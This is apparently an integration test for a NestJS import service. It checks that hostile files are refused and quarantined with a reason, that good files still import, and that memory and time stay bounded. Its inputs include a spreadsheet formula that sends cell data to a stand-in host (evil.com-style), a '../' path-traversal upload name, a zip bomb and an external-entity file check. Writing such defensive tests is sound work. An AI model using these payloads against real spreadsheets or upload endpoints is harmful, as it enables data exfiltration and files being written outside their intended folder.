import { NestFastifyApplication } from '@nestjs/platform-fastify';
import { TestingModule } from '@nestjs/testing';
import { getDataSourceToken } from '@nestjs/typeorm';
import * as ExcelJS from 'exceljs';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { encode } from 'iconv-lite';
import { DataSource } from 'typeorm';
import { ApiKeysService } from '../../libs/auth/src';
import { InboxConfig } from '../../libs/config/src';
import { FINAL_BATCH_STATUSES } from '../../libs/database/src';
import { ImportsService, InboxOutcome, InboxService } from '../../libs/ingestion/src';
import { hohhotDay } from '../../libs/time/src';
import { LOGGER } from '../../libs/logging/src';
import { startRegistry, startApi } from '../support/registry-app';
import { createTestDatabase, TestDatabase } from '../support/test-database';
import { buildHostileCorpus, HEXI, HostileFile, S6_HEADER, XINGKANG } from './corpus';

const MB = 1024 * 1024;
/** Generous for a shared 2-core machine: the whole pass, every hostile file included. */
const PASS_SECONDS = 120;
const RSS_GROWTH_MB = 300;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
const ROOT = join(__dirname, '../..');

/** The highest RSS seen while `work` runs, sampled every 20 ms, above what it was before. */
async function peakRssGrowth<T>(work: () => Promise<T>): Promise<{ result: T; growthMb: number; seconds: number }> {
  global.gc?.();
  const before = process.memoryUsage().rss;
  let peak = before;
  const sampler = setInterval(() => { peak = Math.max(peak, process.memoryUsage().rss); }, 20);
  const started = Date.now();
  try {
    const result = await work();
    return { result, growthMb: (peak - before) / MB, seconds: (Date.now() - started) / 1000 };
  } finally {
    clearInterval(sampler);
  }
}

describe('hostile and broken input is refused with a clear reason, in bounded time and memory, and the rest imports', () => {
  let database: TestDatabase;
  let work: string;
  let registry: TestingModule;
  let api: NestFastifyApplication;
  let dataSource: DataSource;
  let inbox: InboxConfig;
  let hostile: HostileFile[];
  let pass: { result: InboxOutcome[] | null; growthMb: number; seconds: number };

  const s6 = (lines: string[]) => `\uFEFF${[S6_HEADER.join(','), ...lines].join('\r\n')}\r\n`;

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), 'qc-hostile-'));
    inbox = { name: 'hostile', folder: join(work, 'in'), cron: '* * * * *', archiveFolder: join(work, 'archive'), quarantineFolder: join(work, 'quarantine') };
    mkdirSync(inbox.folder, { recursive: true });
    // The limits are configuration: these are tighter than the defaults, to show they are applied.
    process.env.QC_IMPORT_MAX_COLUMNS = '512';
    process.env.QC_IMPORT_MAX_CELL_CHARS = '10000';
    process.env.QC_DATA_DIR = join(work, 'data');
    database = await createTestDatabase();
    registry = await startRegistry(process.env.REDIS_URL ? 'bullmq' : 'in-process');
    dataSource = registry.get<DataSource>(getDataSourceToken());
    api = await startApi();

    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('社区');
    for (const line of [S6_HEADER.join(','), XINGKANG]) sheet.addRow(line.split(','));
    const goodWorkbook = join(inbox.folder, '社区基本情况.xlsx');
    await workbook.xlsx.writeFile(goodWorkbook);
    hostile = await buildHostileCorpus(inbox.folder, goodWorkbook);
    writeFileSync(join(inbox.folder, '社区基本情况统计表.csv'), s6([HEXI]));
    // Formula injection in a name, in a row that is imported and in one that is rejected (bad code).
    const quoted = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');
    const withSecretary = (line: string, name: string) => quoted(line.split(',').map((c, i) => (i === 9 ? name : c)));
    writeFileSync(join(inbox.folder, 'formula.csv'), s6([withSecretary(HEXI, FORMULA), withSecretary(HEXI.replace('150102004008', '1501'), FORMULA)]));
    // Mixed encodings: a UTF-8 file with one row in GB18030 and one with bytes valid in neither.
    writeFileSync(join(inbox.folder, 'mixed-encoding.csv'), Buffer.concat([
      Buffer.from(s6([XINGKANG])), encode(`${HEXI}\r\n`, 'gb18030'), Buffer.from('150102004008,'), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from(',东街街道,新城区,1,2,0,1,1,x,1\r\n'),
    ]));
    const minuteAgo = new Date(Date.now() - 60_000);
    for (const name of readdirSync(inbox.folder)) utimesSync(join(inbox.folder, name), minuteAgo, minuteAgo);

    const inboxes = new InboxService(registry.get(ImportsService), dataSource, registry.get(LOGGER));
    pass = await peakRssGrowth(() => inboxes.runPass(inbox));
  }, 300_000);

  afterAll(async () => {
    await api?.close();
    await registry?.close();
    await database?.drop();
    for (const name of ['QC_IMPORT_MAX_COLUMNS', 'QC_IMPORT_MAX_CELL_CHARS', 'QC_DATA_DIR']) delete process.env[name];
    rmSync(work, { recursive: true, force: true });
  });

  const outcome = (file: string) => pass.result?.find((o) => o.file === file);

  it('refuses every hostile file with a reason naming it, and quarantines it with that reason', () => {
    for (const { name, reason } of hostile) {
      const seen = outcome(name);
      expect({ name, status: seen?.status }).toEqual({ name, status: 'refused' });
      const why = readFileSync(`${seen!.movedTo}.reason.txt`, 'utf8');
      expect(why).toContain(name);
      expect({ name, why }).toEqual({ name, why: expect.stringMatching(reason) });
      expect(why).not.toMatch(/\n\s+at /);
    }
  });

  it('imports the good files of the same pass', () => {
    for (const name of ['社区基本情况统计表.csv', '社区基本情况.xlsx']) expect({ name, status: outcome(name)?.status }).toEqual({ name, status: 'completed' });
    expect(readdirSync(join(inbox.archiveFolder, hohhotDay(new Date())))).toEqual(expect.arrayContaining(['社区基本情况统计表.csv', '社区基本情况.xlsx']));
  });

  it(`stays within ${PASS_SECONDS} s and ${RSS_GROWTH_MB} MB of RSS growth for the whole pass`, () => {
    process.stdout.write(`hostile pass: ${pass.seconds.toFixed(1)} s, peak RSS growth ${pass.growthMb.toFixed(0)} MB\n`);
    expect(pass.seconds).toBeLessThan(PASS_SECONDS);
    expect(pass.growthMb).toBeLessThan(RSS_GROWTH_MB);
  });

  it('never reads an external entity: no file content leaks into the database', async () => {
    const [{ n }] = await dataSource.query(`SELECT count(*)::int AS n FROM source_record WHERE raw::text LIKE '%root:%' OR payload::text LIKE '%root:%'`);
    expect(n).toBe(0);
  });

  it('rejects the rows of a file in mixed encodings, naming row and column, and imports the rest', async () => {
    const seen = outcome('mixed-encoding.csv')!;
    expect(seen.status).toBe('completed');
    const batch = (await registry.get(ImportsService).get(seen.batchId))!;
    expect({ accepted: batch.accepted, rejected: batch.rejected }).toEqual({ accepted: 1, rejected: 2 });
    const rejections = await registry.get(ImportsService).rejections(seen.batchId);
    expect(rejections.map((r) => [r.recordRef, r.columnName])).toEqual([['3', '社区名称'], ['4', '社区名称']]);
    for (const r of rejections) expect(r.reason).toMatch(/cannot be decoded in the file's encoding/);
  });

  it('stores a formula in a name as text, and the CSV export neutralises it', async () => {
    expect(outcome('formula.csv')?.status).toBe('completed');
    const stored: { raw: string[] }[] = await dataSource.query(`SELECT raw FROM source_record WHERE array_to_string(raw, ' ') LIKE '%HYPERLINK%'`);
    expect(stored.length).toBe(2);
    for (const { raw } of stored) expect(raw).toContain(FORMULA);
    const out = join(work, 'rejects.csv');
    await promisify(execFile)(process.execPath, ['-r', 'ts-node/register/transpile-only', '-r', 'tsconfig-paths/register', 'apps/cli/src/main.ts', 'rejects', 'export', '--out', out, '--batch', outcome('formula.csv')!.batchId], {
      cwd: ROOT, env: { ...process.env, LOG_LEVEL: 'error' },
    });
    const exported = readFileSync(out, 'utf8');
    expect(exported).toContain('HYPERLINK');
    // Nowhere does a cell start with the formula itself: a spreadsheet opening the file shows text.
    expect(exported).not.toMatch(/(^|,)"?=HYPERLINK/m);
  }, 60_000);

  it('refuses a hostile upload named with ../ without writing outside its upload folder', async () => {
    const key = (await api.get(ApiKeysService).create('uploader', ['imports:write'], 'test')).key;
    const boundary = `----qc${randomUUID()}`;
    const name = '../../../zip-bomb.xlsx';
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
      readFileSync(outcome('zip-bomb.xlsx')!.movedTo), Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const response = await api.inject({ method: 'POST', url: '/v1/imports', payload, headers: { authorization: `Bearer ${key}`, 'content-type': `multipart/form-data; boundary=${boundary}` } });
    expect(response.statusCode).toBe(202);
    const id = response.json().id as string;
    let body: Record<string, any> = {};
    for (let i = 0; i < 300 && !FINAL_BATCH_STATUSES.includes(body.status); i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      body = (await api.inject({ method: 'GET', url: `/v1/imports/${id}`, headers: { authorization: `Bearer ${key}` } })).json();
    }
    expect(body.status).toBe('refused');
    expect(body.error).toMatch(/zip-bomb\.xlsx is refused as a hostile archive/);
    expect(existsSync(join(process.env.QC_DATA_DIR!, '..', 'zip-bomb.xlsx'))).toBe(false);
    expect(existsSync(join(work, 'zip-bomb.xlsx'))).toBe(false);
  });
});
